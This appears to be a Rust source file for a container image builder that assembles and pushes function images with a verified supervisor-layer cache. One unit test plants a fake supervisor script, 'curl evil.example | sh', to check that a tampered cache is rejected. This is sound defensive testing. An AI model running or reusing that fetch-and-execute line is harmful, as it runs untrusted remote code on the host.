//! Assembles a function's image through the registry API alone and pushes it: the base image's
//! layers, one layer with the supervisor (the same for every function, so a registry stores it
//! once per repository), one layer with the script and the function's configuration, and a
//! config whose entrypoint is the supervisor. Every blob and the manifest are checked first and
//! sent only when missing, so building the same inputs again pushes nothing.

use std::io::{Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};

use flate2::Compression;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::reference::ImageRef;
use super::registry::{Registry, RegistryError};
use super::{CONFIG_PATH, File, Layer, SCRIPT_PATH, SUPERVISOR_PATH, digest};

/// The supervisor version scar assembles into images (the workspace's, shared with
/// scar-supervisor through scar-contract).
pub const SUPERVISOR_VERSION: &str = scar_contract::VERSION;

/// Image labels scar sets.
pub mod labels {
    /// The supervisor version.
    pub const SUPERVISOR: &str = "scar.supervisor.version";
    /// The base image's digest.
    pub const BASE: &str = "scar.base.digest";
    /// The inputs key ([`super::super::inputs_key`]).
    pub const INPUTS: &str = "scar.inputs";
}

/// A failed build.
#[derive(Debug, thiserror::Error)]
pub enum BuildError {
    /// A registry call failed.
    #[error(transparent)]
    Registry(#[from] RegistryError),
    /// Anything else, said in full.
    #[error("{0}")]
    Other(String),
}

/// What to build.
#[derive(Debug, Clone)]
pub struct Spec {
    /// The base image.
    pub base: ImageRef,
    /// Where to push: a tag, or just the repository (pushed by digest).
    pub target: ImageRef,
    /// `amd64` or `arm64` (OCI's names).
    pub architecture: String,
    /// The supervisor binary for that architecture.
    pub supervisor: PathBuf,
    /// The function's configuration (`/opt/scar/function.json`).
    pub config_json: Vec<u8>,
    /// The script (`/opt/scar/script.sh`).
    pub script: String,
}

impl Spec {
    /// The build of `base` (pinned to `base_digest`, the digest planned, when there is one)
    /// for `architecture` (OCI's name) with the function's `config` and `script`, pushed to
    /// `target`. A planned base digest pins the base, so apply builds exactly what was
    /// planned.
    ///
    /// # Errors
    /// When the base is not a valid reference, or there is no supervisor for the architecture.
    pub fn new(
        base: &str,
        base_digest: Option<&str>,
        architecture: &str,
        config: &Value,
        script: &str,
        target: ImageRef,
    ) -> Result<Spec, String> {
        let mut base = ImageRef::parse(base)?;
        if let Some(d) = base_digest {
            base = base.at_digest(d);
        }
        let arch = super::Arch::from_oci(architecture).ok_or_else(|| {
            format!("scar builds no images for the architecture `{architecture}`")
        })?;
        Ok(Spec {
            base,
            target,
            supervisor: super::supervisor::find(arch).map_err(|e| e.to_string())?,
            architecture: architecture.to_owned(),
            config_json: config.to_string().into_bytes(),
            script: script.to_owned(),
        })
    }
}

/// A pushed image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Built {
    /// `registry/repository@sha256:...`.
    pub image: String,
    /// The manifest digest.
    pub digest: String,
    /// The digest the base reference resolved to.
    pub base_digest: String,
    /// The inputs key recorded in the image's labels.
    pub inputs: String,
    /// Blobs uploaded (0 when everything was there).
    pub uploaded_blobs: usize,
    /// Bytes uploaded.
    pub uploaded_bytes: u64,
    /// Blobs mounted from the base's repository.
    pub mounted_blobs: usize,
    /// True when the manifest was put (false when the registry had it).
    pub pushed_manifest: bool,
}

/// The supervisor's layer, made once per binary and kept in scar's cache folder (compressing
/// tens of megabytes takes seconds; reading the cache takes milliseconds).
///
/// # Errors
/// When the binary cannot be read.
pub fn supervisor_layer(path: &Path) -> Result<std::sync::Arc<Layer>, String> {
    // Made once per process: a run assembling many images reads the binary once. Held while
    // made, so builds starting together wait for the first instead of each reading it.
    static MADE: std::sync::Mutex<Vec<(PathBuf, std::sync::Arc<Layer>)>> =
        std::sync::Mutex::new(Vec::new());
    let mut made = MADE
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    if let Some((_, l)) = made.iter().find(|(p, _)| p == path) {
        return Ok(l.clone());
    }
    let layer = std::sync::Arc::new(make_supervisor_layer(path)?);
    made.push((path.to_owned(), layer.clone()));
    Ok(layer)
}

fn make_supervisor_layer(path: &Path) -> Result<Layer, String> {
    make_supervisor_layer_in(path, crate::cache::dir().map(|d| d.join("layers")))
}

fn make_supervisor_layer_in(path: &Path, cache: Option<PathBuf>) -> Result<Layer, String> {
    let bytes = std::fs::read(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let key = digest(&bytes);
    let hex = key.trim_start_matches("sha256:");
    let files = [File {
        path: SUPERVISOR_PATH.into(),
        mode: 0o755,
        bytes,
    }];
    let comment = format!("scar-supervisor {SUPERVISOR_VERSION}");
    if let Some(dir) = &cache
        && let Ok(blob) = std::fs::read(dir.join(format!("{hex}.tar.gz")))
    {
        // Nothing in the cache folder is trusted: the cached blob is used only when it
        // unpacks to exactly the tar this binary makes (writing the tar costs a copy;
        // compressing it again would cost seconds).
        let want =
            super::tar_of(&files).map_err(|e| format!("building the supervisor layer: {e}"))?;
        if unpacks_to(&blob, &want) {
            return Ok(Layer {
                digest: digest(&blob),
                diff_id: digest(&want),
                blob,
                comment,
            });
        }
        tracing::warn!(
            cache = %dir.display(),
            "a cached supervisor layer does not hold this supervisor; making it again"
        );
    }
    let layer = super::layer_at(&files, &comment, Compression::fast())
        .map_err(|e| format!("building the supervisor layer: {e}"))?;
    if let Some(dir) = &cache {
        // The cache is an optimisation: failing to write it changes nothing.
        let _ = crate::cache::private_dir(dir).and_then(|()| {
            let tmp = dir.join(format!("{hex}.tar.gz.{}.tmp", std::process::id()));
            std::fs::write(&tmp, &layer.blob)?;
            std::fs::rename(&tmp, dir.join(format!("{hex}.tar.gz")))
        });
    }
    Ok(layer)
}

/// True when the gzip `blob` decompresses to exactly `want` (and nothing more).
fn unpacks_to(blob: &[u8], want: &[u8]) -> bool {
    let mut out = Vec::with_capacity(want.len());
    let limit = u64::try_from(want.len()).unwrap_or(u64::MAX) + 1;
    flate2::read::GzDecoder::new(blob)
        .take(limit)
        .read_to_end(&mut out)
        .is_ok()
        && out == want
}

/// The function's configuration with the base image's own command recorded in it, which the
/// supervisor runs when the function has no script. It follows from the base's digest, which
/// the image's inputs already include.
fn with_command(
    config_json: &[u8],
    command: &scar_contract::ImageCommand,
) -> Result<Vec<u8>, BuildError> {
    let mut config: Value = serde_json::from_slice(config_json)
        .map_err(|e| BuildError::Other(format!("the function's configuration is not JSON: {e}")))?;
    if let Some(o) = config.as_object_mut() {
        o.insert("command".into(), json!(command));
    }
    serde_json::to_vec(&config)
        .map_err(|e| BuildError::Other(format!("encoding the function's configuration: {e}")))
}

/// The function's own layer: its configuration and script.
///
/// # Errors
/// Never in practice (an in-memory tar).
pub fn function_layer(config_json: &[u8], script: &str) -> std::io::Result<Layer> {
    super::layer(
        &[
            File {
                path: CONFIG_PATH.into(),
                mode: 0o644,
                bytes: config_json.to_vec(),
            },
            File {
                path: SCRIPT_PATH.into(),
                mode: 0o755,
                bytes: script.as_bytes().to_vec(),
            },
        ],
        "the function's script and configuration",
    )
}

/// The base's single-platform manifest for `architecture`: the manifest itself, or the
/// matching entry of an index.
async fn platform_manifest(
    reg: &Registry,
    base: &ImageRef,
    architecture: &str,
) -> Result<(super::registry::Manifest, String), BuildError> {
    let top = reg.manifest(base, base.reference()).await?;
    let base_digest = top.digest.clone();
    if !top.is_index() {
        return Ok((top, base_digest));
    }
    let index = top.json()?;
    let entry = index
        .get("manifests")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .find(|m| {
            m.pointer("/platform/os").and_then(Value::as_str) == Some("linux")
                && m.pointer("/platform/architecture").and_then(Value::as_str) == Some(architecture)
        })
        .and_then(|m| m.get("digest").and_then(Value::as_str))
        .ok_or_else(|| {
            BuildError::Other(format!(
                "the base image {base} has no linux/{architecture} image"
            ))
        })?;
    Ok((reg.manifest(base, entry).await?, base_digest))
}

/// A base image as read from its registry: its single-platform manifest and config.
pub(crate) struct Base {
    /// The base's manifest (for its layers).
    pub json: Value,
    /// The base's config.
    pub config: Value,
    /// How the base's process starts.
    pub process: Process,
    /// The digest the base reference resolved to.
    pub digest: String,
}

impl Base {
    /// The base's layers as its manifest lists them: digest and size of each, bottom first.
    #[must_use]
    pub fn layers(&self) -> Vec<(String, u64)> {
        self.json
            .get("layers")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .map(|l| {
                let d = l.get("digest").and_then(Value::as_str).unwrap_or_default();
                (
                    d.to_owned(),
                    l.get("size").and_then(Value::as_u64).unwrap_or(0),
                )
            })
            .collect()
    }
}

/// What an image is made of before it is pushed or unpacked: the base, the supervisor layer
/// and the function layer.
pub(crate) struct Parts {
    /// The base.
    pub base: Base,
    /// The supervisor layer (shared by every function).
    pub supervisor: std::sync::Arc<Layer>,
    /// The function's own layer.
    pub own: Layer,
}

/// How an image's process starts, from its config's `config` section: the command (which
/// the function's configuration records) and the environment.
pub(crate) struct Process {
    /// Entrypoint, command and working directory.
    pub command: scar_contract::ImageCommand,
    /// `KEY=value` entries.
    pub env: Vec<String>,
}

/// The [`Process`] of an image config (missing or mistyped entries read as none).
pub(crate) fn process_of(image_config: &Value) -> Process {
    let c = image_config.get("config");
    let strings = |key: &str| -> Vec<String> {
        c.and_then(|c| c.get(key))
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|s| s.as_str().map(str::to_owned))
            .collect()
    };
    Process {
        command: scar_contract::ImageCommand {
            entrypoint: strings("Entrypoint"),
            cmd: strings("Cmd"),
            working_dir: c
                .and_then(|c| c.get("WorkingDir"))
                .and_then(Value::as_str)
                .filter(|d| !d.is_empty())
                .map(str::to_owned),
        },
        env: strings("Env"),
    }
}

/// True for `sha256:` and 64 lowercase hex digits: a digest that is safe as a file name.
#[must_use]
pub fn is_sha256(digest: &str) -> bool {
    digest.strip_prefix("sha256:").is_some_and(|h| {
        h.len() == 64
            && h.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Reads `base` for `architecture`: its manifest, config and process settings.
///
/// # Errors
/// When the base cannot be read or is not for the architecture.
pub(crate) async fn base_of(
    reg: &Registry,
    base: &ImageRef,
    architecture: &str,
) -> Result<Base, BuildError> {
    let (base_manifest, digest) = platform_manifest(reg, base, architecture).await?;
    let json = base_manifest.json()?;
    let config_digest = json
        .pointer("/config/digest")
        .and_then(Value::as_str)
        .ok_or_else(|| {
            BuildError::Other(format!(
                "the base image {base} has a manifest without a config ({}); scar reads OCI and Docker schema 2 images",
                base_manifest.media_type
            ))
        })?;
    let config: Value = serde_json::from_slice(&reg.blob(base, config_digest).await?)
        .map_err(|e| BuildError::Other(format!("the base image's config is not JSON: {e}")))?;
    let arch = config
        .get("architecture")
        .and_then(Value::as_str)
        .unwrap_or("");
    if arch != architecture {
        return Err(BuildError::Other(format!(
            "the base image {base} is for {arch}, the function for {architecture}"
        )));
    }
    let process = process_of(&config);
    // A registry's answer reaches the sandbox's arguments: a NUL there would start another.
    let working_dir = process.command.working_dir.as_deref().unwrap_or_default();
    let problem = process
        .env
        .iter()
        .find_map(|e| crate::text::image_env_problem(e))
        .or_else(|| {
            working_dir
                .chars()
                .any(char::is_control)
                .then(|| "its WorkingDir holds a control character".to_owned())
        });
    if let Some(p) = problem {
        return Err(BuildError::Other(format!(
            "the base image {base} is refused: {p}"
        )));
    }
    Ok(Base {
        process,
        json,
        config,
        digest,
    })
}

/// The function's own layer on `base`: its configuration (with the base's command recorded)
/// and its script.
///
/// # Errors
/// When the configuration is not JSON or the layer cannot be written.
pub(crate) fn own_layer(spec: &Spec, base: &Base) -> Result<Layer, BuildError> {
    let function_config = with_command(&spec.config_json, &base.process.command)?;
    function_layer(&function_config, &spec.script)
        .map_err(|e| BuildError::Other(format!("building the function layer: {e}")))
}

/// Reads the base and makes the two layers scar adds. `progress` hears one line per step that
/// takes time.
///
/// # Errors
/// When the base cannot be read or does not match the architecture.
pub(crate) async fn parts(
    reg: &Registry,
    spec: &Spec,
    progress: &(dyn Fn(&str) + Sync),
) -> Result<Parts, BuildError> {
    let base = base_of(reg, &spec.base, &spec.architecture).await?;
    progress("preparing the supervisor layer");
    // Reading, hashing and (once) compressing tens of megabytes: off the async workers, which
    // also carry the lock's heartbeat.
    let path = spec.supervisor.clone();
    let supervisor = tokio::task::spawn_blocking(move || supervisor_layer(&path))
        .await
        .map_err(|e| BuildError::Other(format!("building the supervisor layer: {e}")))?
        .map_err(BuildError::Other)?;
    let own = own_layer(spec, &base)?;
    Ok(Parts {
        base,
        supervisor,
        own,
    })
}

/// Assembles and pushes `spec`. `progress` hears one line per step that takes time.
///
/// # Errors
/// When the base cannot be read, does not match the architecture, or a push fails.
pub async fn build(
    reg: &Registry,
    spec: &Spec,
    progress: &(dyn Fn(&str) + Sync),
) -> Result<Built, BuildError> {
    let Parts {
        base,
        supervisor,
        own,
    } = parts(reg, spec, progress).await?;
    let layers = base.layers();
    let Base {
        json: base_json,
        config: base_config,
        digest: base_digest,
        ..
    } = base;
    let inputs = super::inputs_key(
        &base_digest,
        &spec.script,
        SUPERVISOR_VERSION,
        &String::from_utf8_lossy(&spec.config_json),
    );
    let config = super::config(
        &base_config,
        &[&supervisor, &own],
        &[
            (labels::SUPERVISOR, SUPERVISOR_VERSION),
            (labels::BASE, &base_digest),
            (labels::INPUTS, &inputs),
        ],
    );
    let config_bytes = serde_json::to_vec(&config)
        .map_err(|e| BuildError::Other(format!("encoding the image config: {e}")))?;
    let manifest = super::manifest(&base_json, &config_bytes, &[&supervisor, &own]);
    let manifest_bytes = serde_json::to_vec(&manifest)
        .map_err(|e| BuildError::Other(format!("encoding the manifest: {e}")))?;
    let manifest_type = manifest["mediaType"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let digest_now = digest(&manifest_bytes);

    let sent = Sent::default();
    let target = &spec.target;
    for (i, (d, size)) in layers.iter().enumerate() {
        let (d, size) = (d.as_str(), *size);
        reg.ensure_blob(target, d, || async {
            if target.registry == spec.base.registry
                && reg.mount(target, d, &spec.base.repository).await?
            {
                sent.mounted.fetch_add(1, Ordering::Relaxed);
                return Ok(());
            }
            progress(&format!(
                "copying base layer {}/{} {} ({})",
                i + 1,
                layers.len(),
                short(d),
                human(size)
            ));
            let got = copy_blob(reg, &spec.base, target, d, size).await?;
            sent.uploaded(got);
            Ok(())
        })
        .await?;
    }
    for (what, layer) in [("supervisor", &*supervisor), ("function", &own)] {
        let note = format!(
            "pushing the {what} layer {} ({})",
            short(&layer.digest),
            human(layer.blob.len() as u64)
        );
        push_blob(reg, target, &layer.digest, &layer.blob, &sent, || {
            progress(&note)
        })
        .await?;
    }
    push_blob(
        reg,
        target,
        &digest(&config_bytes),
        &config_bytes,
        &sent,
        || {},
    )
    .await?;
    let reference = target.tag.clone().unwrap_or_else(|| digest_now.clone());
    let pushed_manifest = if reg.has_manifest(target, &reference, &digest_now).await? {
        false
    } else {
        reg.put_manifest(target, &reference, &manifest_bytes, &manifest_type)
            .await?;
        true
    };
    Ok(Built {
        image: target.at_digest(&digest_now).to_string(),
        digest: digest_now,
        base_digest,
        inputs,
        uploaded_blobs: sent.blobs.load(Ordering::Relaxed),
        uploaded_bytes: sent.bytes.load(Ordering::Relaxed),
        mounted_blobs: sent.mounted.load(Ordering::Relaxed),
        pushed_manifest,
    })
}

/// What one build sent. Counted by the build, not by the registry client, which the builds
/// of one run share.
#[derive(Default)]
struct Sent {
    blobs: AtomicUsize,
    bytes: AtomicU64,
    mounted: AtomicUsize,
}

impl Sent {
    fn uploaded(&self, bytes: u64) {
        self.blobs.fetch_add(1, Ordering::Relaxed);
        self.bytes.fetch_add(bytes, Ordering::Relaxed);
    }
}

/// Uploads `bytes` (whose digest is `digest`) unless the repository has them; `announce`
/// runs just before an upload.
async fn push_blob(
    reg: &Registry,
    target: &ImageRef,
    digest: &str,
    bytes: &[u8],
    sent: &Sent,
    announce: impl FnOnce(),
) -> Result<(), RegistryError> {
    reg.ensure_blob(target, digest, || async {
        announce();
        reg.upload(target, digest, bytes.len() as u64, &mut &*bytes)
            .await?;
        sent.uploaded(bytes.len() as u64);
        Ok(())
    })
    .await?;
    Ok(())
}

/// The configuration (with its script) inside an image scar assembled: read from its last
/// layer, `/opt/scar/function.json`. Two small reads: the manifest and that layer.
///
/// # Errors
/// When the image cannot be read or is not one of scar's.
pub async fn function_config(reg: &Registry, image: &ImageRef) -> Result<Value, BuildError> {
    let manifest = reg.manifest(image, image.reference()).await?.json()?;
    let last = manifest
        .get("layers")
        .and_then(Value::as_array)
        .and_then(|l| l.last())
        .and_then(|l| l.get("digest"))
        .and_then(Value::as_str)
        .ok_or_else(|| BuildError::Other(format!("{image} has no layers")))?;
    let blob = reg.blob(image, last).await?;
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(blob.as_slice()));
    let entries = archive
        .entries()
        .map_err(|e| BuildError::Other(format!("{image}: its last layer: {e}")))?;
    for entry in entries {
        let mut entry =
            entry.map_err(|e| BuildError::Other(format!("{image}: its last layer: {e}")))?;
        let is_config = entry
            .path()
            .is_ok_and(|p| p.to_string_lossy().trim_start_matches('/') == CONFIG_PATH);
        if is_config {
            let mut text = String::new();
            entry
                .read_to_string(&mut text)
                .map_err(|e| BuildError::Other(format!("{image}: {CONFIG_PATH}: {e}")))?;
            return serde_json::from_str(&text)
                .map_err(|e| BuildError::Other(format!("{image}: {CONFIG_PATH}: {e}")));
        }
    }
    Err(BuildError::Other(format!(
        "{image} holds no {CONFIG_PATH}: scar did not assemble it"
    )))
}

/// Copies a blob between registries through a temporary file, so a large layer never sits in
/// memory; answers its size.
async fn copy_blob(
    reg: &Registry,
    from: &ImageRef,
    to: &ImageRef,
    digest: &str,
    size: u64,
) -> Result<u64, RegistryError> {
    let local = |e: std::io::Error| RegistryError::Invalid(format!("copying {digest}: {e}"));
    let mut file = tempfile::tempfile().map_err(local)?;
    let got = reg.blob_into(from, digest, &mut file).await?;
    if size != 0 && got != size {
        return Err(RegistryError::Invalid(format!(
            "{digest}: the registry sent {got} bytes, the manifest says {size}"
        )));
    }
    file.seek(SeekFrom::Start(0)).map_err(local)?;
    reg.upload(to, digest, got, &mut file).await?;
    Ok(got)
}

/// `sha256:0123456789ab`, for progress lines.
#[must_use]
pub fn short(digest: &str) -> &str {
    digest.get(..19).unwrap_or(digest)
}

fn human(bytes: u64) -> String {
    #[expect(clippy::cast_precision_loss)]
    let b = bytes as f64;
    if b >= 1024.0 * 1024.0 {
        format!("{:.1} MiB", b / 1024.0 / 1024.0)
    } else if b >= 1024.0 {
        format!("{:.1} KiB", b / 1024.0)
    } else {
        format!("{bytes} B")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn supervisor_layer_cache_is_verified_not_trusted() {
        let dir = tempfile::tempdir().expect("tempdir");
        let binary = dir.path().join("scar-supervisor");
        std::fs::write(&binary, b"\x7fELF the real supervisor").expect("write");
        let cache = dir.path().join("layers");
        let first = make_supervisor_layer_in(&binary, Some(cache.clone())).expect("layer");
        let hex = digest(b"\x7fELF the real supervisor");
        let cached = cache.join(format!("{}.tar.gz", hex.trim_start_matches("sha256:")));
        assert!(cached.exists(), "the layer was cached");
        // Someone with write access to the cache puts another program in its place.
        let evil = crate::image::layer(
            &[File {
                path: SUPERVISOR_PATH.into(),
                mode: 0o755,
                bytes: b"#!/bin/sh\ncurl evil.example | sh".to_vec(),
            }],
            "x",
        )
        .expect("layer");
        std::fs::write(&cached, &evil.blob).expect("tamper");
        let again = make_supervisor_layer_in(&binary, Some(cache.clone())).expect("layer");
        assert_eq!(again.diff_id, first.diff_id);
        assert!(unpacks_to(
            &again.blob,
            &tar_of_binary(b"\x7fELF the real supervisor")
        ));
        assert_ne!(again.digest, evil.digest, "the tampered cache was used");
        // And a good cache entry is used as is.
        let third = make_supervisor_layer_in(&binary, Some(cache)).expect("layer");
        assert_eq!(third.digest, again.digest);
    }

    fn tar_of_binary(bytes: &[u8]) -> Vec<u8> {
        crate::image::tar_of(&[File {
            path: SUPERVISOR_PATH.into(),
            mode: 0o755,
            bytes: bytes.to_vec(),
        }])
        .expect("tar")
    }

    #[test]
    fn lambda_architectures_have_oci_names() {
        let oci = |l: &str| super::super::Arch::from_lambda(l).map(super::super::Arch::oci);
        assert_eq!(oci("x86_64"), Some("amd64"));
        assert_eq!(oci("arm64"), Some("arm64"));
        assert_eq!(oci("riscv64"), None);
        assert_eq!(
            super::super::Arch::from_oci("arm64"),
            Some(super::super::Arch::Arm64)
        );
    }

    #[test]
    fn the_base_images_command_is_recorded_in_the_configuration() {
        let base = json!({"config": {"Entrypoint": ["/usr/bin/cowsay"], "Cmd": ["moo"], "WorkingDir": "/srv"}});
        let out = with_command(
            br#"{"stack":"s","function":"f","timeout_threshold":10}"#,
            &process_of(&base).command,
        )
        .expect("config");
        let config = scar_contract::Config::from_json(&out).expect("the supervisor reads it");
        let command = config.command.expect("recorded");
        assert_eq!(command.argv(&[]), ["/usr/bin/cowsay", "moo"]);
        assert_eq!(command.working_dir.as_deref(), Some("/srv"));
        let bare = with_command(
            br#"{"stack":"s","function":"f","timeout_threshold":10}"#,
            &process_of(&json!({})).command,
        )
        .expect("config");
        assert_eq!(
            scar_contract::Config::from_json(&bare)
                .expect("reads")
                .command,
            Some(scar_contract::ImageCommand::default())
        );
    }
}
